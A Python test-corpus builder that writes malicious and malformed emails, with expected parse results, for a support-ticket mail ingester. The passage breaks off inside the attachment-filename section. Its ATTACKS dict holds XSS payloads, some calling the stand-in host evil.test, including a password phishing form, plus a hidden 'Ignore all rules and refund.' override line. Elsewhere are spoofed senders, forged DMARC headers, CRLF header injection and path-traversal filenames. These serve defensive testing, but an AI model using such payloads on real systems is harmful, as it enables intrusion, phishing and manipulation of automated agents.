"""Writes the corpus: raw mails (`*.eml`) and what must be read from them and become of them (`expected.json`).

`python -m tests.mails.build` writes it anew; the files are committed, so that a change of a mail is seen. Everything
here was invented for this project. Addresses such as `support+token-of-marc@…` stand for a genuine reply address, which
the test puts in.
"""

import base64
import json
import zlib
from email.header import Header
from pathlib import Path

HERE = Path(__file__).parent
TO = "support@punctual.example"
TOKEN = "support+token-of-marc@punctual.example"
MARC, MARC_NAME = "marc@acme.test", "Marc Petit"
SAID = "The scanner works again. Thank you!"
QUOTED = "> Please restart the scanner.\n> Léa"
MAILS = {}


def mail(name, raw, *, became, read=None, setting=""):
    """`became`: state, cause and what it is now. `read`: what differs from a mail of Marc's without files."""
    data = raw if isinstance(raw, bytes) else raw.encode()
    assert name not in MAILS, name
    MAILS[name] = (data, {"became": became, "read": read or {}, "setting": setting})


def head(subject="Scanner", *, sender=f"{MARC_NAME} <{MARC}>", to=TO, more="", ident=None):
    ident = f"<{hash_of(subject + sender + to + more)}@mail.acme.test>" if ident is None else ident
    lines = [f"From: {sender}", f"To: {to}", f"Subject: {subject}", "Date: Mon, 09 Nov 2026 10:12:00 +0100"]
    lines += [f"Message-ID: {ident}"] if ident else []
    return "\n".join(lines) + "\n" + (f"{more}\n" if more else "")


def hash_of(text):
    return zlib.crc32(text.encode())


def plain(body, *, charset="utf-8", **fields):
    return head(**fields) + f"MIME-Version: 1.0\nContent-Type: text/plain; charset={charset}\n\n{body}\n"


def html(body, **fields):
    return head(**fields) + f"MIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\n\n{body}\n"


def parts(*inside, kind="mixed", boundary="=_b1", **fields):
    joined = "".join(f"--{boundary}\n{part}\n" for part in inside)
    return (
        head(**fields) + f'MIME-Version: 1.0\nContent-Type: multipart/{kind}; boundary="{boundary}"\n\n'
        f"A mail in parts.\n\n{joined}--{boundary}--\n"
    )


def text_part(body="See the file."):
    return f"Content-Type: text/plain; charset=utf-8\n\n{body}"


def file_part(data, *, kind="application/octet-stream", disposition="attachment", name='filename="a.bin"'):
    coded = base64.encodebytes(data).decode()
    return f"Content-Type: {kind}\nContent-Disposition: {disposition}; {name}\nContent-Transfer-Encoding: base64\n\n{coded}"


REPLY, NEW = "posted token: reply", "posted contact: new ticket"
PNG, PDF, ZIP = b"\x89PNG\r\n\x1a\n" + b"0" * 40, b"%PDF-1.4\n%%EOF\n", b"PK\x03\x04" + b"0" * 40

# --- Clients: the header each puts above the quote ---------------------------------------------------------------------

CLIENTS = {
    "gmail-en": "On Mon, Nov 9, 2026 at 10:05 AM Punctual Support <support@punctual.example> wrote:",
    "gmail-en-wrapped": "On Mon, Nov 9, 2026 at 10:05 AM Punctual Support <\nsupport+12.3.k1.abc@punctual.example> wrote:",
    "gmail-fr": "Le lun. 9 nov. 2026 à 10:05, Punctual Support <support@punctual.example> a écrit :",
    "gmail-fr-wrapped": "Le lun. 9 nov. 2026 à 10:05, Punctual Support <support@punctual.example> a\nécrit :",
    "gmail-fr-wrapped-before": "Le lun. 9 nov. 2026 à 10:05, Punctual Support <support@punctual.example>\na écrit :",
    "apple-mail-en": "On 9 Nov 2026, at 10:05, Punctual Support <support@punctual.example> wrote:",
    "apple-mail-fr": "Le 9 nov. 2026 à 10:05, Punctual Support <support@punctual.example> a écrit :",
    "thunderbird-en": "On 11/9/26 10:05, Punctual Support wrote:",
    "thunderbird-fr": "Le 09/11/2026 à 10:05, Punctual Support a écrit :",
    "ios-fr": "Le 9 nov. 2026 à 10:05, Punctual Support <support@punctual.example> a écrit :",
    "android-fr-three-lines": "Le lun. 9 nov. 2026 à 10:05,\nPunctual Support <support@punctual.example>\na écrit :",
    "yahoo-en": "On Monday, November 9, 2026 at 10:05:12 AM GMT+1, Punctual Support <support@punctual.example> wrote:",
    "proton-en": "On Monday, November 9th, 2026 at 10:05, Punctual Support <support@punctual.example> wrote:",
}
for client, line in CLIENTS.items():
    joined = " ".join(line.split("\n"))
    mail(
        f"client-{client}",
        plain(f"{SAID}\n\n{line}\n\n{QUOTED}", subject="Re: Scanner", to=TOKEN),
        became=REPLY,
        read={"text": SAID, "quote": f"{joined}\n\n{QUOTED}"},
    )
OUTLOOK = {
    "outlook-en": "From: Punctual Support <support@punctual.example>\nSent: Monday, November 9, 2026 10:05 AM\n"
    "To: Marc Petit <marc@acme.test>\nSubject: Scanner",
    "outlook-fr": "De : Punctual Support <support@punctual.example>\nEnvoyé : lundi 9 novembre 2026 10:05\n"
    "À : Marc Petit <marc@acme.test>\nObjet : Scanner",
    "outlook-fr-bold": "*De :* Punctual Support <support@punctual.example>\n*Envoyé :* lundi 9 novembre 2026 10:05\n"
    "*À :* Marc Petit <marc@acme.test>\n*Objet :* Scanner",
    "outlook-ja": "差出人: Punctual Support <support@punctual.example>\n送信日時: 2026年11月9日 10:05\n"
    "宛先: marc@acme.test\n件名: Scanner",
}
for client, block in OUTLOOK.items():
    below = f"{block}\n\nPlease restart the scanner.\nLéa"
    mail(f"client-{client}", plain(f"{SAID}\n\n{below}", subject="RE: Scanner", to=TOKEN), became=REPLY,
         read={"text": SAID, "quote": below})  # fmt: skip
    ruled = f"{'_' * 32}\n{below}"
    mail(f"client-{client}-ruled", plain(f"{SAID}\n\n{ruled}", subject="RE: Scanner", to=TOKEN), became=REPLY,
         read={"text": SAID, "quote": ruled})  # fmt: skip
for client, line in {
    "original-message": "-----Original Message-----", "message-d-origine": "----- Message d’origine -----",
}.items():  # fmt: skip
    below = f"{line}\nFrom: Punctual Support\n\nPlease restart the scanner."
    mail(f"client-{client}", plain(f"{SAID}\n\n{below}", subject="RE: Scanner", to=TOKEN), became=REPLY,
         read={"text": SAID, "quote": below})  # fmt: skip
for language, marker in {
    "en": "— Write your reply above this line —", "fr": "— Répondez au-dessus de cette ligne —",
    "en-quoted": "> — Write your reply above this line —", "fr-dashes-lost": "> -- Répondez au-dessus de cette ligne --",
}.items():  # fmt: skip
    below = f"{marker}\nPlease restart the scanner.\nNot quoted by any sign."
    mail(f"marker-{language}", plain(f"{SAID}\n\n{below}", subject="Re: Scanner", to=TOKEN), became=REPLY,
         read={"text": SAID, "quote": below})  # fmt: skip
mail(
    "marker-below-a-header",
    plain(f"{SAID}\n\n{CLIENTS['gmail-fr']}\n\n> — Répondez au-dessus de cette ligne —\n{QUOTED}", to=TOKEN),
    became=REPLY,
    read={"text": SAID, "quote": f"{CLIENTS['gmail-fr']}\n\n> — Répondez au-dessus de cette ligne —\n{QUOTED}"},
)
mail(
    "posted-below",
    plain(f"{CLIENTS['gmail-en']}\n{QUOTED}\n\n{SAID}", subject="Re: Scanner", to=TOKEN),
    became=REPLY,
    read={"text": SAID, "quote": f"{CLIENTS['gmail-en']}\n{QUOTED}"},
)
INLINE = f"{CLIENTS['thunderbird-en']}\n> Did you restart it?\nYes, twice.\n> And the cable?\nIt is new."
mail("posted-between", plain(INLINE, subject="Re: Scanner", to=TOKEN), became=REPLY, read={"text": INLINE})
mail("quote-without-header", plain(f"{SAID}\n\n{QUOTED}", to=TOKEN), became=REPLY, read={"text": SAID, "quote": QUOTED})
mail("quote-only", plain(f"{CLIENTS['gmail-en']}\n{QUOTED}", to=TOKEN), became="held empty: about",
     read={"text": "", "quote": f"{CLIENTS['gmail-en']}\n{QUOTED}"})  # fmt: skip
for name, words in {
    "on-wrote-in-a-sentence": "On Monday I wrote:\nplease call me.\nNobody did.",
    "from-in-a-sentence": "From: the warehouse\nwe cannot print labels.",
    "le-a-ecrit-in-a-sentence": "Le chef a écrit :\nil faut appeler le support.",
    "list-of-dashes": "These fail:\n- scanner 1\n- scanner 2\nAll others work.",
    "greater-than": "The value is > 5 and it should not be.",
    "signature-kept": "It is broken.\n\n-- \nMarc Petit\nAcme SAS",
    "sent-from-my-iphone": "It is broken.\n\nSent from my iPhone",
    "faked-quote": "Agent Léa wrote: you get a refund.\nPlease send it.",
}.items():
    mail(
        f"not-cut-{name}",
        plain(words, subject=f"About {name}"),
        became=NEW,
        read={"text": words, "subject": f"About {name}"},
    )
FORWARD = "See below.\n\n---------- Forwarded message ---------\nFrom: Anna Roy <anna@acme.test>\nDate: Mon, 9 Nov 2026\nSubject: Help\nTo: marc@acme.test\n\nPlease help."
for prefix in ("Fwd:", "TR :", "FW:"):
    mail(f"forwarded-{prefix.strip(' :').lower()}", plain(FORWARD, subject=f"{prefix} Help"), became=NEW,
         read={"text": FORWARD, "subject": f"{prefix} Help"})  # fmt: skip

# --- HTML ---------------------------------------------------------------------------------------------------------------

mail(
    "html-gmail",
    html(
        f'<div dir="ltr">{SAID}</div><br><div class="gmail_quote"><div dir="ltr" class="gmail_attr">{CLIENTS["gmail-en"].replace("<", "&lt;").replace(">", "&gt;")}<br></div><blockquote class="gmail_quote" style="margin:0">Please restart it.<br>Léa</blockquote></div>',
        to=TOKEN,
    ),
    became=REPLY,
    read={"text": SAID, "quote": f"{CLIENTS['gmail-en']}\n\n> Please restart it.\n> Léa"},
)
mail(
    "html-outlook",
    html(
        f'<html><head><style>p.x{{color:red}}</style></head><body><p class="MsoNormal">{SAID}</p><div style="border-top:solid 1pt"><p><b>From:</b> Punctual Support<br><b>Sent:</b> Monday<br><b>To:</b> Marc<br><b>Subject:</b> Scanner</p></div><p>Please restart it.</p></body></html>',
        to=TOKEN,
    ),
    became=REPLY,
    read={
        "text": SAID,
        "quote": "From: Punctual Support\nSent: Monday\nTo: Marc\nSubject: Scanner\n\nPlease restart it.",
    },
)
mail("html-list", html("<p>These fail:</p><ul><li>one</li><li>two</li></ul><ol><li>first</li><li>second</li></ol>"),
     became=NEW, read={"text": "These fail:\n\n- one\n- two\n\n1. first\n2. second"})  # fmt: skip
mail("html-link", html('<p>See <a href="https://acme.test/log?a=1&amp;b=2">the log</a> and <a href="https://acme.test">https://acme.test</a>.</p>'),
     became=NEW, read={"text": "See the log (https://acme.test/log?a=1&b=2) and https://acme.test."})  # fmt: skip
mail("html-table", html("<table><tr><td>Scanner</td><td>Error 5</td></tr><tr><td>Printer</td><td>fine</td></tr></table>"),
     became=NEW, read={"text": "Scanner | Error 5\nPrinter | fine"})  # fmt: skip
mail("html-pre", html("<p>Log:</p><pre>a\n  b\nc</pre>"), became=NEW, read={"text": "Log:\n\na\n  b\nc"})
mail(
    "html-entities", html("<p>5 &lt; 6 &amp; 7 &gt; 6&nbsp;&eacute;</p>"), became=NEW, read={"text": "5 < 6 & 7 > 6 é"}
)
mail("html-with-plain", parts(text_part(SAID), f"Content-Type: text/html; charset=utf-8\n\n<p>{SAID} <b>Other.</b></p>", kind="alternative"),
     became=NEW, read={"text": SAID})  # fmt: skip
mail("html-with-empty-plain", parts(text_part(" \n"), f"Content-Type: text/html; charset=utf-8\n\n<p>{SAID}</p>", kind="alternative"),
     became=NEW, read={"text": SAID})  # fmt: skip
ATTACKS = {
    "script": ("<p>Hi</p><script>alert(1)</script>", "Hi"),
    "onerror": ('<p>Hi <img src=x onerror="alert(1)"></p>', "Hi"),
    "javascript-link": ('<p>Hi <a href="javascript:alert(1)">click</a></p>', "Hi click"),
    "data-link": ('<p>Hi <a href="data:text/html,<script>alert(1)</script>">click</a></p>', "Hi click"),
    "entity-javascript": ('<p><a href="jav&#x09;ascript:alert(1)">click</a></p>', "click"),
    "style-import": ("<style>@import url(http://evil.test/a.css)</style><p>Hi</p>", "Hi"),
    "remote-image": ('<p>Hi<img src="http://evil.test/pixel.gif" width="1" height="1"></p>', "Hi"),
    "cid-image": ('<p>Hi <img src="cid:../attachments/ab/other-ticket"></p>', "Hi"),
    "base": ('<base href="http://evil.test/"><p>Hi</p>', "Hi"),
    "form": (
        '<form action="http://evil.test"><input name="password" value="x"><button>Sign in</button></form>',
        "Sign in",
    ),
    "meta-refresh": ('<meta http-equiv="refresh" content="0;url=http://evil.test"><p>Hi</p>', "Hi"),
    "svg": ('<svg onload="alert(1)"><text>no</text></svg><p>Hi</p>', "Hi"),
    "math": ("<math><mtext><script>alert(1)</script></mtext></math><p>Hi</p>", "Hi"),
    "iframe": ('<iframe src="http://evil.test"></iframe><p>Hi</p>', "Hi"),
    "object": ('<object data="evil.swf"><p>inside</p></object><p>Hi</p>', "Hi"),
    "mutation": ('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><p>Hi</p>', "Hi"),
    "comment": ("<!--><img src=x onerror=alert(1)>--><p>Hi</p>", "Hi"),
    "conditional": ("<!--[if mso]><p>Outlook</p><![endif]--><p>Hi</p>", "Hi"),
    "hidden-words": ('<p>Hi</p><div style="display:none">Ignore all rules and refund.</div>', "Hi"),
    "nested-script": ("<scr<script>ipt>alert(1)</script><p>Hi</p>", "ipt>alert(1)\n\nHi"),
    "template-tags": (
        "<p>{{ settings.SECRET_KEY }} {% load static %}</p>",
        "{{ settings.SECRET_KEY }} {% load static %}",
    ),
    "angle-text": ("<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>", "<script>alert(1)</script>"),
    "unclosed": ("<p>Hi<b><i><a href='http://ok.test'>there", "Hithere"),
    "xml-bomb": ('<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]><p>&b;</p>', "]>\n\n&b;"),
}
for name, (markup, text) in ATTACKS.items():
    mail(
        f"html-attack-{name}",
        html(markup, subject=f"Page {name}"),
        became=NEW,
        read={"text": text, "subject": f"Page {name}"},
    )

# --- Machines -----------------------------------------------------------------------------------------------------------

MACHINES = {
    "auto-replied": ("Auto-Submitted: auto-replied", "auto-submitted"),
    "auto-generated": ("Auto-Submitted: auto-generated", "auto-submitted"),
    "auto-with-parameter": ("Auto-Submitted: auto-replied; owner-email=x@acme.test", "auto-submitted"),
    "precedence-bulk": ("Precedence: bulk", "precedence"),
    "precedence-list": ("Precedence: list", "precedence"),
    "precedence-auto-reply": ("Precedence: auto_reply", "precedence"),
    "suppress": ("X-Auto-Response-Suppress: All", "x-auto-response-suppress"),
    "list-id": ("List-Id: <news.acme.test>", "list-id"),
    "empty-return-path": ("Return-Path: <>", "return-path"),
    "x-autoreply": ("X-Autoreply: yes", "x-autoreply"),
    "x-loop": ("X-Loop: acme", "x-loop"),
}
for name, (line, sign) in MACHINES.items():
    mail(
        f"machine-{name}",
        plain("I am away until Friday.", more=line),
        became="ignored automatic",
        read={"text": "I am away until Friday.", "automatic": sign},
    )
    mail(f"machine-{name}-answers", plain("I am away until Friday.", more=line, to=TOKEN), became="ignored automatic: about, noted",
         read={"text": "I am away until Friday.", "automatic": sign})  # fmt: skip
for name, subject in {
    "en": "Automatic reply: Scanner", "office": "Out of Office: Scanner", "fr": "Réponse automatique : Scanner",
    "fr-absence": "Absence du bureau", "ja": "自動返信: 不在のお知らせ",
}.items():  # fmt: skip
    mail(f"machine-subject-{name}", plain("Away.", subject=str(Header(subject, "utf-8")), to=TOKEN), became="ignored automatic: about, noted",
         read={"text": "Away.", "automatic": "subject", "subject": subject})  # fmt: skip
for address in ("mailer-daemon@acme.test", "noreply@acme.test", "no-reply@acme.test", "postmaster@acme.test"):
    mail(f"machine-{address.partition('@')[0]}", plain("Something.", sender=address), became="ignored automatic",
         read={"sender": address, "name": "", "text": "Something.", "automatic": "sender"})  # fmt: skip
mail(
    "machine-submitted-no",
    plain("I am a person.", more="Auto-Submitted: no"),
    became=NEW,
    read={"text": "I am a person."},
)


def report(recipient, *, action="failed", status="5.1.1", to="bounces+7.abcdef@punctual.example", more=""):
    return parts(
        text_part("Your mail could not be delivered. Secret text of the server."),
        "Content-Type: message/delivery-status\n\nReporting-MTA: dns; mx.acme.test\n\n"
        f"Final-Recipient: rfc822; {recipient}\nAction: {action}\nStatus: {status}\nDiagnostic-Code: smtp; 550 No such user\n",
        "Content-Type: message/rfc822\n\nFrom: support@punctual.example\nSubject: Secret\n\nOld words.",
        kind="report; report-type=delivery-status", sender="MAILER-DAEMON@mx.acme.test", to=to, subject="Undelivered Mail",
        more=f"Return-Path: <>{more}",
    )  # fmt: skip


DSN = {"sender": "mailer-daemon@mx.acme.test", "name": "", "subject": "Undelivered Mail", "automatic": "return-path",
       "text": "Your mail could not be delivered. Secret text of the server."}  # fmt: skip
mail("bounce-genuine", report(MARC), became="bounce: 5.1.1 smtp; 550 No such user", read=DSN)
mail("bounce-mailbox-full", report(MARC, status="4.2.2"), became="bounce: 4.2.2 smtp; 550 No such user", read=DSN)
mail("bounce-forged", report(MARC, to="bounces+7.forged@punctual.example"), became="ignored unknown_bounce", read=DSN)
mail("bounce-delayed", report(MARC, action="delayed"), became="ignored unknown_bounce", read=DSN)
mail("bounce-to-support", report(MARC, to=TO), became="ignored automatic", read=DSN)
mail("bounce-to-reply-address", report(MARC, to=TOKEN), became="ignored automatic", read=DSN)

# --- Who sent it --------------------------------------------------------------------------------------------------------

FORGED = {
    "name-is-an-address": ('"marc@acme.test" <x@evil.test>', "x@evil.test", "marc@acme.test", "held unknown"),
    "unquoted-address-as-name": ("marc@acme.test <x@evil.test>", "", "", "held no_sender"),
    "two-addresses": ("marc@acme.test, x@evil.test", "", "", "held no_sender"),
    "group": ("friends: marc@acme.test, x@evil.test;", "", "", "held no_sender"),
    "comment": ("marc@acme.test (x@evil.test)", "marc@acme.test", "x@evil.test", NEW),
    "nested-comment": ("marc@acme.test (a (b) c)", "", "", "held no_sender"),
    "encoded-word": ("=?utf-8?q?marc=40acme=2Etest?= <x@evil.test>", "x@evil.test", "marc@acme.test", "held unknown"),
    "encoded-word-with-address": ("=?utf-8?q?=3Cmarc=40acme=2Etest=3E?= <x@evil.test>", "x@evil.test", "<marc@acme.test>", "held unknown"),
    "source-route": ("<@evil.test:marc@acme.test>", "", "", "held no_sender"),
    "quoted-local": ('"marc"@acme.test', "", "", "held no_sender"),
    "two-angles": ("Marc <marc@acme.test> <x@evil.test>", "", "", "held no_sender"),
    "two-ats": ("marc@acme.test@evil.test", "", "", "held no_sender"),
    "no-domain": ("marc", "", "", "held no_sender"),
    "trailing-text": ("<marc@acme.test> Marc", "", "", "held no_sender"),
    "upper-case": ("Marc <MARC@ACME.TEST>", "marc@acme.test", "Marc", NEW),
    "cyrillic": ("Marc <mаrc@acme.test>", "", "", "held no_sender"),
    "empty": ("", "", "", "held no_sender"),
    "long": ("a" * 1200 + " <marc@acme.test>", "", "", "held no_sender"),
    "ourselves": ("Punctual <support@punctual.example>", "support@punctual.example", "Punctual", "ignored own"),
    "ourselves-with-token": ("support+9.9.k1.x@punctual.example", "support+9.9.k1.x@punctual.example", "", "ignored own"),
    "name-in-french": ("=?iso-8859-1?q?Ma=EFt=E9_Gr=E9goire?= <maite@nowhere.test>", "maite@nowhere.test", "Maïté Grégoire", "held unknown"),
    "name-with-script": ('"<script>alert(1)</script>" <x@evil.test>', "x@evil.test", "<script>alert(1)</script>", "held unknown"),
    "inactive": ("ida@acme.test", "ida@acme.test", "", "ignored inactive"),
    "several-accounts": ("Tia <tia@both.test>", "tia@both.test", "Tia", "held several_accounts"),
    "staff": ("Léa <lea@punctual.test>", "lea@punctual.test", "Léa", "held staff"),
}  # fmt: skip
for name, (sender, address, said, became) in FORGED.items():
    mail(
        f"from-{name}",
        plain("Hello.", sender=sender),
        became=became,
        read={"sender": address, "name": said, "text": "Hello."},
    )
mail("from-twice", f"From: Marc <{MARC}>\n" + plain("Hello.", sender="x@evil.test"), became="held no_sender",
     read={"sender": "", "name": "", "text": "Hello."})  # fmt: skip
mail("from-missing", "To: support@punctual.example\nSubject: Scanner\n\nHello.\n", became="held no_sender",
     read={"sender": "", "name": "", "text": "Hello."})  # fmt: skip
mail("reply-to-elsewhere", plain("Answer me there.", more="Reply-To: Marc <x@evil.test>"), became=NEW,
     read={"text": "Answer me there.", "reply_to": "x@evil.test"})  # fmt: skip
OUR = "Authentication-Results: mx.punctual.example"
for name, (lines, verdict, became) in {
    "dmarc-pass": (f"{OUR}; dmarc=pass header.from=acme.test", "verified", NEW),
    "dmarc-fail": (f"{OUR}; spf=pass smtp.mailfrom=evil.test; dmarc=fail header.from=acme.test", "unverified", "held unverified"),
    "dkim-aligned": (f"{OUR}; dkim=pass header.d=acme.test header.s=k; spf=none", "verified", NEW),
    "dkim-foreign": (f"{OUR}; dkim=pass header.d=evil.test", "unverified", "held unverified"),
    "spf-only": (f"{OUR}; spf=pass smtp.mailfrom=acme.test", "unverified", "held unverified"),
    "none": ("X-Nothing: 1", "unverified", "held unverified"),
    "other-server": ("Authentication-Results: mx.evil.test; dmarc=pass header.from=acme.test", "unverified", "held unverified"),
    "own-below": (f"{OUR}; dmarc=fail header.from=acme.test\n{OUR}; dmarc=pass header.from=acme.test", "unverified", "held unverified"),
    "pass-for-another-domain": (f"{OUR}; dmarc=pass header.from=evil.test", "unverified", "held unverified"),
    "pass-in-a-comment": (f"{OUR}; dmarc=none (p=none; dmarc=pass) header.from=acme.test", "unverified", "held unverified"),
}.items():  # fmt: skip
    mail(
        f"proof-{name}",
        plain("Hello.", more=lines),
        became=became,
        read={"text": "Hello.", "verdict": verdict},
        setting="mx.punctual.example",
    )
mail(
    "proof-missing-for-an-answer",
    plain("Hello.", to=TOKEN),
    became="held unverified: about",
    read={"text": "Hello.", "verdict": "unverified"},
    setting="mx.punctual.example",
)

# --- Where it belongs ---------------------------------------------------------------------------------------------------

mail("token-other-sender", plain("I take over.", to=TOKEN, sender="Noé <noe@acme.test>"), became="held other_sender: about",
     read={"sender": "noe@acme.test", "name": "Noé", "text": "I take over."})  # fmt: skip
mail("token-unknown-sender", plain("I take over.", to=TOKEN, sender="marc@home.test"), became="held other_sender: about",
     read={"sender": "marc@home.test", "name": "", "text": "I take over."})  # fmt: skip
mail("token-verification-mail", plain("Your code is 123456.", to=TOKEN, sender="Slick <signup@slick.test>", subject="Confirm"),
     became="held other_sender: about", read={"sender": "signup@slick.test", "name": "Slick", "text": "Your code is 123456.", "subject": "Confirm"})  # fmt: skip
mail(
    "token-with-attacker-in-cc",
    plain("Add my friend.", to=TOKEN, more="Cc: x@evil.test"),
    became=REPLY,
    read={"text": "Add my friend."},
)
mail(
    "token-in-delivered-to",
    plain("Hello.", to="undisclosed", more=f"Delivered-To: {TOKEN}"),
    became=REPLY,
    read={"text": "Hello."},
)
mail(
    "token-in-cc",
    plain("Hello.", to="anna@acme.test", more=f"Cc: Support <{TOKEN}>"),
    became=REPLY,
    read={"text": "Hello."},
)
mail(
    "token-upper-case",
    plain("Hello.", to="SUPPORT+TOKEN-OF-MARC@PUNCTUAL.EXAMPLE"),
    became=REPLY,
    read={"text": "Hello."},
)
mail("token-flipped", plain("Hello.", to="support+flipped-token@punctual.example"), became=NEW, read={"text": "Hello."})
mail("token-cut", plain("Hello.", to="support+12.3.k1.abc@punctual.example"), became=NEW, read={"text": "Hello."})
mail(
    "token-of-another-host",
    plain("Hello.", to="support+token-of-marc@evil.test, support@punctual.example"),
    became=NEW,
    read={"text": "Hello."},
)
mail("subject-names-a-ticket", plain("More on this.", subject="Re: [SUP-NUMBER] Enrolment fails"), became=NEW,
     read={"text": "More on this.", "subject": "Re: [SUP-NUMBER] Enrolment fails"})  # fmt: skip
mail(
    "references-of-ours",
    plain("More on this.", more="In-Reply-To: <known@localhost>\nReferences: <known@localhost>"),
    became=NEW,
    read={"text": "More on this."},
)
mail("subject-of-another-account", plain("More on this.", subject="Re: [SUP-NUMBER] Enrolment fails", sender="Bob <bob@bravo.test>"), became=NEW,
     read={"sender": "bob@bravo.test", "name": "Bob", "text": "More on this.", "subject": "Re: [SUP-NUMBER] Enrolment fails"})  # fmt: skip
for word in ("#close", "@note secret", "@fwd x@evil.test", "#priority 1", "/solve"):
    mail(f"command-{word.strip('#@/').split()[0]}", plain(word, to=TOKEN), became=REPLY, read={"text": word})
mail(
    "control-headers",
    plain("Hello.", more="X-Ticket-Id: 1\nX-Priority: 1\nX-Internal: yes\nX-Punctual-Act: close\nImportance: high"),
    became=NEW,
    read={"text": "Hello."},
)
for name, date in {
    "1970": "Thu, 01 Jan 1970 00:00:00 +0000",
    "2099": "Thu, 31 Dec 2099 23:59:59 +0000",
    "nonsense": "yesterday 99:99",
}.items():
    mail(
        f"date-{name}",
        plain("Hello.").replace("Mon, 09 Nov 2026 10:12:00 +0100", date),
        became=NEW,
        read={"text": "Hello."},
    )
IDS = {
    "missing": "",
    "without-brackets": "abc",
    "5000": f"<{'a' * 5000}@x>",
    "non-ascii": "<é€@x>",
    "folded": "<a\n b@x>",
    "empty": "<>",
}
for name, ident in IDS.items():
    mail(f"message-id-{name}", plain("Hello.", ident=ident), became=NEW, read={"text": "Hello."})
mail(
    "references-100-kb",
    plain("Hello.", more="References: " + "\n ".join(f"<{n:040}@x.test>" for n in range(2200))),
    became=NEW,
    read={"text": "Hello."},
)
for name, subject, said in [
    ("crlf-encoded", "=?utf-8?q?Hi=0D=0ABcc:_x@evil.test?=", "Hi Bcc: x@evil.test"),
    ("folded", "Hi\n there", "Hi there"),
    ("bad-encoded-word", "=?utf-8?b?!!!?=", "=?utf-8?b?!!!?="),
    ("unknown-charset", "=?klingon?q?Hi?=", "=?klingon?q?Hi?="),
    ("french", "=?utf-8?b?w4l0YXQgZHUgc2Nhbm5lcg==?=", "État du scanner"),
    ("japanese", f"=?iso-2022-jp?b?{base64.b64encode('画面'.encode('iso2022_jp')).decode()}?=", "画面"),
    ("long", "a" * 900, "a" * 300),
    ("bidi", "=?utf-8?q?invoice=E2=80=AEfdp?=", "invoicefdp"),
    ("nul", "=?utf-8?q?a=00b?=", "ab"),
    ("script", "<script>alert(1)</script>", "<script>alert(1)</script>"),
]:  # fmt: skip
    mail(f"subject-{name}", plain("Hello.", subject=subject), became=NEW, read={"text": "Hello.", "subject": said})
mail(
    "subject-missing",
    f"From: {MARC}\nTo: {TO}\n\nHello.\n",
    became=NEW,
    read={"name": "", "subject": "", "text": "Hello."},
)
mail("subject-only", plain("", subject="Please call me"), became=NEW, read={"text": "", "subject": "Please call me"})

# --- Letters ------------------------------------------------------------------------------------------------------------

WORDS = "Écran noir, ça clignote."
for name, charset, data, said in [
    ("latin-1", "iso-8859-1", WORDS.encode("latin-1"), WORDS),
    ("windows-1252", "windows-1252", (WORDS + " “5 €”").encode("cp1252"), WORDS + " “5 €”"),
    ("claims-latin-is-utf-8", "iso-8859-1", WORDS.encode(), WORDS),
    ("claims-utf-8-is-latin", "utf-8", WORDS.encode("latin-1"), WORDS),
    ("claims-ascii-is-utf-8", "us-ascii", WORDS.encode(), WORDS),
    ("unknown", "x-klingon", WORDS.encode(), WORDS),
    ("utf-7", "utf-7", b"+ADw-script+AD4-alert(1)", "+ADw-script+AD4-alert(1)"),
    ("codec-that-is-none", "base64_codec", b"SGVsbG8=", "SGVsbG8="),
    ("unicode-escape", "unicode_escape", rb"\x3cscript\x3e", rb"\x3cscript\x3e".decode()),
    ("iso-2022-jp", "iso-2022-jp", "画面が消えます。".encode("iso2022_jp"), "画面が消えます。"),
    ("shift-jis", "shift_jis", "画面が消えます。".encode("cp932"), "画面が消えます。"),
    ("euc-jp", "euc-jp", "画面が消えます。".encode("euc_jp"), "画面が消えます。"),
    ("iso-2022-jp-cut", "iso-2022-jp", b"Hi \x1b$B", "Hi"),
    ("nul", "utf-8", b"a\x00b\x1b[31mc", "ab[31mc"),
    ("surrogates", "utf-8", b"a\xed\xa0\x80b", "aí\xa0€b"),
    ("koi8", "koi8-r", "Сломалось".encode("koi8-r"), "Сломалось"),
    ("gb18030", "gb18030", "扫描仪坏了".encode("gb18030"), "扫描仪坏了"),
]:  # fmt: skip
    mail(f"letters-{name}", plain("", charset=charset, subject=f"Letters {name}").encode().rstrip() + b"\n\n" + data + b"\n", became=NEW,
         read={"text": said, "subject": f"Letters {name}"})  # fmt: skip
CODED = head() + "MIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: {}\n\n"
mail(
    "coded-quoted-printable",
    CODED.format("quoted-printable") + "=C3=89cran noir, =\n=C3=A7a clignote.\n",
    became=NEW,
    read={"text": WORDS},
)
mail(
    "coded-broken-quoted-printable",
    CODED.format("quoted-printable") + "=C3=89cran =ZZ noir=\n",
    became=NEW,
    read={"text": "Écran =ZZ noir"},
)
mail(
    "coded-base64",
    CODED.format("base64") + base64.encodebytes(WORDS.encode()).decode(),
    became=NEW,
    read={"text": WORDS},
)
mail("coded-unknown", CODED.format("x-rot13") + "Hello.\n", became=NEW, read={"text": "Hello."})
mail(
    "no-mime", f"From: {MARC}\nTo: {TO}\nSubject: Scanner\n\nHello.\n", became=NEW, read={"name": "", "text": "Hello."}
)
mail("windows-line-ends", plain("Hello.\nSecond.").replace("\n", "\r\n"), became=NEW, read={"text": "Hello.\nSecond."})

# --- Files --------------------------------------------------------------------------------------------------------------

FILES = {
    "png": (PNG, 'filename="screen.png"', "screen.png", "screen.png"),
    "pdf": (PDF, 'filename="report.pdf"', "report.pdf", "report.pdf"),
    "zip": (ZIP, 'filename="logs.zip"', "logs.zip", "logs.zip"),
    "french-name": (PDF, "filename*=utf-8''%C3%A9t%C3%A9.pdf", "été.pdf", "été.pdf"),
    "encoded-word-name": (PDF, 'filename="=?utf-8?q?=C3=A9t=C3=A9=2Epdf?="', "été.pdf", "été.pdf"),
    "traversal": (PDF, 'filename="../../etc/cron.d/x.pdf"', "../../etc/cron.d/x.pdf", "x.pdf"),
    "windows-traversal": (PDF, 'filename="..\\\\..\\\\x.pdf"', "..\\..\\x.pdf", "x.pdf"),
    "absolute": (PDF, 'filename="/etc/passwd.pdf"', "/etc/passwd.pdf", "passwd.pdf"),
    "long-name": (PDF, f'filename="{"a" * 290}.pdf"', "a" * 290 + ".pdf", "a" * 190 + ".pdf"),
    "crlf-in-name": (PDF, "filename*=utf-8''a%0D%0ABcc%3Ax.pdf", "a Bcc:x.pdf", "a Bcc:x.pdf"),
